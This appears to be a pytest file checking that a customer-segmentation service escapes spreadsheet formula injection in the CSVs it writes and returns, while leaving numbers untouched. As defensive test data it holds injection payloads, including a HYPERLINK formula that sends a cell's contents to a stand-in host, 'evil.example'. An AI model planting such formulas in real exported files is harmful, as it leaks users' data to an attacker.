"""Formula injection: every CSV the product writes neutralises cells a spreadsheet would evaluate."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pandas as pd
import pytest
from fastapi.testclient import TestClient

from customer_segmentation import artifacts, csv_safety
from customer_segmentation.config import ArtifactPaths, Settings
from customer_segmentation.pipeline import RunConfig, RunResult, run

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-2+3", "@SUM(A1)", "\tcmd", "\r=1"]
NUMBERS = ["-2", "+3", "-1.5e3", "0.25", "-.5", "42"]


def parse(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_cells_get_a_quote_and_are_quoted(text: str) -> None:
    frame = pd.DataFrame({"customer_id": [text, "ok"], "age": [30, 40]})
    data = csv_safety.csv_bytes(frame)
    assert parse(data)[1] == ["'" + text, "30"]
    escaped = '"' + ("'" + text).replace('"', '""') + '"'
    assert data.decode().split("\n", 1)[1].startswith(escaped + ",30\n")  # the field is quoted


@pytest.mark.parametrize("text", NUMBERS)
def test_plain_numbers_are_untouched_even_in_text_columns(text: str) -> None:
    frame = pd.DataFrame({"customer_id": [text], "score": [-2.5]})
    assert csv_safety.csv_bytes(frame) == f"customer_id,score\n{text},-2.5\n".encode()


def test_headers_and_categories_are_neutralised_too() -> None:
    frame = pd.DataFrame({"=evil()": ["a"], "name": pd.Series(["@x"], dtype="category")})
    assert parse(csv_safety.csv_bytes(frame)) == [["'=evil()", "name"], ["a", "'@x"]]


def test_processed_tables_escape_formulas(tmp_path: Path, blobs_frame) -> None:  # type: ignore[no-untyped-def]
    frame = blobs_frame(3, n_per=30).drop(columns="true_group")
    frame.loc[0, "customer_id"] = FORMULAS[0]
    frame.loc[1, "customer_id"] = "-7"
    source = tmp_path / "customers.csv"
    frame.to_csv(source, index=False)
    root = tmp_path / "out"
    run(
        RunConfig(data=source, bootstrap_resamples=2),
        Settings(artifacts_root=root),
        paths=ArtifactPaths(root),
    )
    rows = parse(ArtifactPaths(root).clustered_csv.read_bytes())
    ids = [row[rows[0].index("customer_id")] for row in rows[1:]]
    assert "'" + FORMULAS[0] in ids and FORMULAS[0] not in ids
    assert "-7" in ids  # a number-like id is not altered
    preprocessed = parse((ArtifactPaths(root).processed_dir / "preprocessed_data.csv").read_bytes())
    assert "'" + FORMULAS[0] in [row[0] for row in preprocessed[1:]]


def test_mall_tables_are_byte_identical_to_plain_pandas(trained_result: RunResult) -> None:
    """The rule changes nothing in ordinary data: the canonical run's CSVs are what pandas wrote before."""
    for table in (trained_result.preprocessed_table(), trained_result.clustered_table()):
        plain = table.to_csv(index=False, float_format=artifacts.CSV_FLOAT_FORMAT, lineterminator="\n").encode()
        assert artifacts.csv_bytes(table) == plain


def test_scored_upload_escapes_formulas_but_not_numbers(client: TestClient) -> None:
    body = (
        b"CustomerID,Gender,Age,Annual Income (k$),Spending Score (1-100),=note\n"
        b'"=HYPERLINK(""http://evil.example"")",Male,30,40,50,@SUM(A1)\n'
        b"7,Female,-2,40,50,+1\n"
    )
    answer = client.post("/predict/csv", files={"file": ("x.csv", body, "text/csv")})
    assert answer.status_code == 200, answer.text
    rows = parse(answer.content)
    assert rows[0][5] == "'=note"
    assert rows[1][0] == "'" + '=HYPERLINK("http://evil.example")' and rows[1][5] == "'@SUM(A1)"
    assert rows[2][2] == "-2" and rows[2][5] == "+1"  # numbers stay numbers
    assert "-2" in rows[2][-1]  # …and the row's error names the value as it was sent
